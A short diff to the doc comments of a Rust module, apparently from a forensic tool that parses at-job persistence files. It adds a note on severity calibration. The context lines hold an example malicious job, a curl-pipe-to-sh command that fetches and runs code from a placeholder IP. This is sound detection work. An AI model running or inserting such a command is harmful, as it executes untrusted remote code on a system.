@@ -12,6 +12,10 @@
 //! **Example:** `/var/spool/cron/atjobs/a0000101a3c2f1` (uid 0):
 //! `curl -s http://198.51.100.4/x | sh` (high).
 //!
+//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
+//! high); critical or high only for evidence that an attacker acted, medium for what needs a
+//! look, low and info for context (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1053.002 (Scheduled Task/Job: At).
 
 use huoyan_artifacts::persistence::atjob::parse_at_job;
